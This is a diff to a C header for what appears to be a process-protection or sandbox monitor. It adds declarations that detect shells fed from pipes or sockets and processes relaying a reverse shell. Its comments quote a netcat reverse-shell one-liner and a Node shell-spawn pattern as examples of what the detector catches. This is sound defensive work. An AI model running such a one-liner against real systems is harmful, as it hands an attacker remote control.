@@ -36,4 +36,12 @@ void protections_judge(const struct policy *p, const struct exec_facts *f, struc
  * of a reverse shell (`cat f | sh 2>&1 | nc HOST PORT > f`). */
 bool protections_fed_by_shell(pid_t pid);
 
+/* At a connect: did process tgid start a shell that reads its commands from a pipe or socket
+ * (not a terminal, not a file), and is that shell still running? Then tgid relays a reverse
+ * shell itself (Node's `cp.spawn("/bin/sh")` piped to a socket). */
+bool protections_relays_for_shell(pid_t tgid);
+
+/* A traced task ended. */
+void protections_forget(pid_t pid);
+
 #endif
